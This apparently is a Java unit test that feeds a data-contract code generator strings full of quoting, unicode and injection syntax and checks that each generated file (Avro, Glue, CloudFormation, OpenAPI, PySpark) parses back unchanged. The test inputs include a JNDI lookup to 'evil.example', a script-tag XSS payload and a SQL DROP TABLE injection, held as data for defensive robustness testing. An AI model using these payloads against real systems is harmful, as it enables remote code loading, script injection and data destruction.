package dev.datamesh.generator;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import dev.datamesh.contract.ContractLoader;
import dev.datamesh.contract.model.Contract;
import dev.datamesh.contract.validation.Severity;
import dev.datamesh.contract.validation.ValidatedResult;
import dev.datamesh.contract.validation.ValidationEvent;
import dev.datamesh.contract.validation.rules.GlueNameRule;
import dev.datamesh.generator.etl.DqdlCheck;
import dev.datamesh.generator.etl.GlueSdk;
import dev.datamesh.generator.etl.Python;
import dev.datamesh.generator.glue.AwsSdkShapes;
import dev.datamesh.generator.javaclient.GeneratedSources;
import dev.datamesh.generator.lambda.GeneratedJava;
import io.swagger.v3.oas.models.OpenAPI;
import io.swagger.v3.oas.models.media.Schema;
import io.swagger.v3.parser.OpenAPIV3Parser;
import io.swagger.v3.parser.core.models.ParseOptions;
import io.swagger.v3.parser.core.models.SwaggerParseResult;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.stream.IntStream;
import org.apache.avro.NameValidator;
import org.apache.avro.Schema.Field;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import software.amazon.awssdk.services.glue.model.Column;
import software.amazon.awssdk.services.glue.model.DatabaseInput;
import software.amazon.awssdk.services.glue.model.TableInput;

/**
 * Every generator over one contract whose texts are full of quoting, escape, comment, template and line-break
 * syntax, unicode and 2,000 characters: each output is read by the tool that consumes it (Jackson, the AWS SDK's
 * Glue model, Avro's parser, swagger-parser) and says the same text. Names that cannot be Glue names are
 * validation errors instead, never broken files.
 */
class HostileContractTest {

    static final List<String> TEXTS = List.of(
            "He said \"hi\" and 'bye'",
            "back\\slash \\n \\u0041 \\\\ C:\\path\\ trailing \\",
            "*/ closes a comment, /* opens one, /** javadoc */",
            "${LambdaFunctionArn} ${jndi:ldap://evil.example/a} ${env:HOME} #{spel} %s %n",
            "{{mustache}} {{{triple}}} {{/close}} <% erb %> </script><script>alert(1)</script>",
            "line one\nline two\r\nline three\rtab\there\n",
            "'; DROP TABLE t; -- \"\"\" ''' `backtick`",
            ": - # & * ! | > % @ [ ] { } , ? --- ...",
            "Zürich 東京 🚀 \u202Eevil \u2028sep \u00a0nbsp \ufeffbom \u0001\u001besc",
            "x".repeat(1000) + "\"\\*/${x}{{y}}\n" + "é".repeat(986));

    private static final ObjectMapper JSON = JsonMapper.builder()
            .enable(JsonParser.Feature.STRICT_DUPLICATE_DETECTION)
            .enable(DeserializationFeature.FAIL_ON_TRAILING_TOKENS)
            .build();
    private static final YAMLMapper YAML = YAMLMapper.builder()
            .enable(JsonParser.Feature.STRICT_DUPLICATE_DETECTION)
            .build();

    @Test
    void theLongTextHas2000Characters() {
        assertThat(TEXTS.get(TEXTS.size() - 1)).hasSize(2000);
    }

    @Test
    void everyGeneratorWritesFilesTheirConsumersReadBack() throws Exception {
        ValidatedResult<Contract> result = new ContractLoader().load(YAML.writeValueAsString(contract()),
                "hostile.odcs.yaml");
        assertThat(result.events(Severity.ERROR)).as("hostile text is no reason to reject a contract").isEmpty();
        Contract contract = result.unwrap();

        Map<String, Integer> filesPerGenerator = new TreeMap<>();
        Set<String> kinds = new TreeSet<>();
        for (Generator generator : Generators.create(Generators.names())) {
            List<GeneratedFile> files = generator.generate(contract, GeneratorOptions.DEFAULT);
            filesPerGenerator.put(generator.name(), files.size());
            for (GeneratedFile file : files) {
                assertThat(file.content()).as(file.path()).doesNotContain("\r").endsWith("\n");
                assertThat(file.path()).matches("[a-z-]+(/[A-Za-z0-9_.-]+)+");
                if (!file.path().endsWith(".java")) {
                    kinds.add(check(file));
                }
            }
            List<GeneratedFile> java = files.stream().filter(f -> f.path().endsWith(".java")).toList();
            if (!java.isEmpty()) {
                kinds.add(compile(generator.name(), java));
            }
        }
        assertThat(filesPerGenerator.keySet()).containsExactlyElementsOf(new TreeSet<>(Generators.names()));
        assertThat(filesPerGenerator.values()).allMatch(n -> n > 0);
        assertThat(kinds).containsExactly("avro", "cloudformation", "dqdl", "glue-database", "glue-job",
                "glue-table", "java-client", "lambda", "openapi", "pyspark", "sam");
    }

    static List<String> hostileNames() {
        return TEXTS;
    }

    @ParameterizedTest
    @MethodSource("hostileNames")
    void namesThatCannotBeGlueNamesAreValidationErrors(String name) throws JsonProcessingException {
        Map<String, Object> root = contract();
        @SuppressWarnings("unchecked")
        Map<String, Object> table = ((List<Map<String, Object>>) root.get("schema")).get(0);
        table.put("name", name);
        @SuppressWarnings("unchecked")
        Map<String, Object> column = ((List<Map<String, Object>>) table.get("properties")).get(1);
        column.put("name", name);

        ValidatedResult<Contract> result = new ContractLoader().load(YAML.writeValueAsString(root),
                "hostile.odcs.yaml");

        List<String> ids = result.events(Severity.ERROR).stream().map(ValidationEvent::ruleId).distinct().toList();
        assertThat(ids).as("errors: %s", result.events(Severity.ERROR))
                .containsExactlyInAnyOrderElementsOf(name.length() > GlueNameRule.MAX_LENGTH
                        ? List.of(GlueNameRule.ID, GlueNameRule.LENGTH) : List.of(GlueNameRule.ID));
        assertThat(result.events(Severity.ERROR)).hasSize(name.length() > GlueNameRule.MAX_LENGTH ? 4 : 2)
                .allSatisfy(e -> assertThat(e.location().line()).isPositive());
    }

    /** Parses one file with its consumer; returns its kind. */
    /** Compiles a generator's Java sources with javac under -Xlint:all -Werror, against what they need. */
    private static String compile(String generator, List<GeneratedFile> files) throws Exception {
        Path directory = Files.createTempDirectory("hostile-" + generator);
        switch (generator) {
            case "lambda" -> GeneratedJava.compile(files, directory);
            case "java-client" -> GeneratedSources.compile(files, directory.resolve("src"),
                    directory.resolve("classes"));
            default -> throw new AssertionError("No compiler check for the Java of " + generator);
        }
        return generator;
    }

    private static String check(GeneratedFile file) throws Exception {
        String path = file.path();
        if (path.endsWith(".sam.yaml")) {
            JsonNode template = YAML.readTree(file.content());
            assertThat(template.path("Resources").size()).as(path).isPositive();
            return "sam";
        }
        if (path.endsWith(".table.json")) {
            TableInput table = AwsSdkShapes.read(JSON.readTree(file.content()), TableInput.builder());
            assertThat(AwsSdkShapes.write(table)).isEqualTo(JSON.readTree(file.content()));
            if (table.name().equals("hostile_table")) {
                checkGlueTable(table);
            }
            return "glue-table";
        }
        if (path.endsWith("/database.json")) {
            DatabaseInput database = AwsSdkShapes.read(JSON.readTree(file.content()), DatabaseInput.builder());
            assertThat(database.name()).isEqualTo("sales_hostile");
            assertThat(database.description()).startsWith("back\\slash \\n");
            return "glue-database";
        }
        if (path.endsWith(".cfn.yaml")) {
            JsonNode template = YAML.readTree(file.content());
            assertThat(template.get("Description").textValue()).doesNotContain("\n");
            for (Map.Entry<String, JsonNode> resource : template.get("Resources").properties()) {
                JsonNode properties = resource.getValue().get("Properties");
                switch (resource.getValue().get("Type").asText()) {
                    case "AWS::Glue::Database" -> AwsSdkShapes.read(properties.get("DatabaseInput"),
                            DatabaseInput.builder());
                    case "AWS::Glue::Table" -> AwsSdkShapes.read(properties.get("TableInput"), TableInput.builder());
                    default -> throw new AssertionError("unexpected resource " + resource);
                }
            }
            return "cloudformation";
        }
        if (path.endsWith(".py")) {
            Python.assertCompiles(Map.of(path, file.content()));
            return "pyspark";
        }
        if (path.endsWith(".dqdl")) {
            DqdlCheck.parse(file.content());
            return "dqdl";
        }
        if (path.endsWith(".job.json")) {
            GlueSdk.createJobRequest(file.content());
            return "glue-job";
        }
        if (path.endsWith(".avsc")) {
            org.apache.avro.Schema schema = new org.apache.avro.Schema.Parser(NameValidator.STRICT_VALIDATOR)
                    .parse(file.content());
            if (schema.getField("c0") != null) {
                checkAvro(schema);
            }
            return "avro";
        }
        if (path.endsWith(".openapi.yaml")) {
            ParseOptions options = new ParseOptions();
            options.setResolve(true);
            SwaggerParseResult parsed = new OpenAPIV3Parser().readContents(file.content(), null, options);
            assertThat(parsed.getMessages()).as(path).isEmpty();
            checkOpenApi(parsed.getOpenAPI());
            assertThat(YAML.readTree(file.content()).at("/info/title").textValue()).isEqualTo(TEXTS.get(8));
            return "openapi";
        }
        throw new AssertionError("No consumer checks " + path + ": add one to this test.");
    }

    private static void checkGlueTable(TableInput table) {
        assertThat(table.description()).hasSizeLessThanOrEqualTo(2048).startsWith("x".repeat(1000) + "\"\\*/${x}{{y}}");
        List<Column> columns = table.storageDescriptor().columns();
        assertThat(columns).extracting(Column::name).startsWith("c0", "c1", "c2");
        for (Column column : columns) {
            if (column.comment() != null) {
                assertThat(column.comment()).hasSizeLessThanOrEqualTo(255).doesNotContain("\n", "\r", "\u0001");
            }
        }
        assertThat(columns.get(0).comment()).isEqualTo(TEXTS.get(0));
        assertThat(columns.get(3).comment()).isEqualTo(TEXTS.get(3));
        assertThat(table.parameters()).containsEntry("contract.id", TEXTS.get(6));
    }

    private static void checkAvro(org.apache.avro.Schema schema) {
        assertThat(schema.getDoc()).isEqualTo(TEXTS.get(TEXTS.size() - 1));
        for (int i = 0; i < TEXTS.size(); i++) {
            Field field = schema.getField("c" + i);
            // Avro docs drop leading and trailing white space (YAML block scalars end with a line break)
            assertThat(field.doc()).as("doc of c%d", i).isEqualTo(TEXTS.get(i).strip());
        }
        assertThat(schema.getField("amount").schema().getTypes().get(1).getLogicalType().getName())
                .isEqualTo("decimal");
    }

    private static void checkOpenApi(OpenAPI api) {
        assertThat(api.getInfo().getDescription()).startsWith(TEXTS.get(5));
        Schema<?> row = api.getComponents().getSchemas().get("HostileTable");
        assertThat(row).as("schemas %s", api.getComponents().getSchemas().keySet()).isNotNull();
        for (int i = 0; i < TEXTS.size(); i++) {
            Schema<?> property = row.getProperties().get("c" + i);
            assertThat(property.getDescription()).as("description of c%d", i).isEqualTo(TEXTS.get(i));
            assertThat(property.getExample()).as("example of c%d", i).isEqualTo(TEXTS.get(i));
        }
    }

    /** The contract as a YAML tree; YAMLMapper quotes and escapes every string. */
    static Map<String, Object> contract() {
        List<Object> properties = new ArrayList<>();
        IntStream.range(0, TEXTS.size()).forEach(i -> {
            Map<String, Object> column = new LinkedHashMap<>();
            column.put("name", "c" + i);
            column.put("logicalType", "string");
            column.put("description", TEXTS.get(i));
            column.put("examples", List.of(TEXTS.get(i)));
            if (i == 0) {
                column.put("required", true);
                column.put("primaryKey", true);
                column.put("primaryKeyPosition", 1);
            }
            properties.add(column);
        });
        properties.add(map("name", "amount", "logicalType", "number", "physicalType", "decimal(12,2)",
                "description", TEXTS.get(6)));
        properties.add(map("name", "event_date", "logicalType", "date", "required", true, "partitioned", true,
                "partitionKeyPosition", 1, "description", TEXTS.get(2)));
        for (String reserved : List.of("select", "class", "type", "namespace", "default")) {
            properties.add(map("name", reserved, "logicalType", "integer", "description", TEXTS.get(4)));
        }
        properties.add(map("name", "nested", "logicalType", "object", "description", TEXTS.get(3), "properties",
                List.of(map("name", "inner", "logicalType", "string", "description", TEXTS.get(5)))));
        properties.add(map("name", "labels", "logicalType", "array", "description", TEXTS.get(7),
                "items", map("logicalType", "string", "description", TEXTS.get(8))));

        Map<String, Object> root = new LinkedHashMap<>();
        root.put("apiVersion", "v3.1.0");
        root.put("kind", "DataContract");
        root.put("id", TEXTS.get(6));
        root.put("name", TEXTS.get(0));
        root.put("version", "1.0.0");
        root.put("status", "active");
        root.put("domain", "sales");
        root.put("dataProduct", TEXTS.get(8));
        root.put("description", map("purpose", TEXTS.get(5), "usage", TEXTS.get(3), "limitations", TEXTS.get(9)));
        root.put("tags", List.of(TEXTS.get(4)));
        root.put("team", map("name", TEXTS.get(4), "description", TEXTS.get(2)));
        root.put("servers", List.of(map("server", "prod", "type", "glue", "account", "123456789012",
                "database", "sales_hostile", "location", "s3://acme-lake/hostile/", "format", "parquet",
                "description", TEXTS.get(1))));
        root.put("schema", List.of(
                map("name", "hostile_table", "physicalType", "table", "businessName", TEXTS.get(0),
                        "description", TEXTS.get(9), "properties", properties,
                        "quality", List.of(map("type", "sql", "description", TEXTS.get(6),
                                "query", "SELECT COUNT(*) FROM hostile_table WHERE c0 = '" + TEXTS.get(6) + "'",
                                "mustBe", 0))),
                map("name", "table", "physicalType", "table", "description", TEXTS.get(7), "properties",
                        List.of(map("name", "order", "logicalType", "string", "description", TEXTS.get(1))))));
        return root;
    }

    private static Map<String, Object> map(Object... keysAndValues) {
        Map<String, Object> map = new LinkedHashMap<>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            map.put((String) keysAndValues[i], keysAndValues[i + 1]);
        }
        return map;
    }
}
